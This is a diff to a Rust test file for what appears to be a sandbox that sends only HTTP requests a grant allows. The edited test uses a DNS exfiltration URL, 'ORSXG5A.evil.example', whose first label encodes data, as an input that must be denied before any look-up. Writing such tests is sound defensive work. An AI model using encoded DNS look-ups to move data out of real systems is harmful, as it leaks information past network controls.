@@ -1,4 +1,4 @@
-//! Which requests are sent: those that a grant allows, without redirects and within the limits of a call.
+//! Which requests are sent: those that a grant allows, within the limits of a call. Redirects are not followed.
 
 use serde_json::json;
 
@@ -20,7 +20,8 @@ async fn a_granted_request_is_sent_and_answered() {
 async fn a_host_without_a_grant_is_neither_looked_up_nor_connected_to() {
     let server = Server::with_page();
     let mut call = Call::new(json!([full_grant("https://granted.example/")]), TestResolver::default());
-    // A look-up of this name alone would tell the server of names what its first label encodes.
+    // Looking up this name would be enough to send data: its first label encodes the data, and the name server of
+    // `evil.example` would see it.
     let url_with_data = "http://ORSXG5A.evil.example/".to_owned();
     for url in [server.url("/"), url_with_data] {
         assert!(matches!(call.get(&url).await, Err(Error::HttpRequestDenied)));
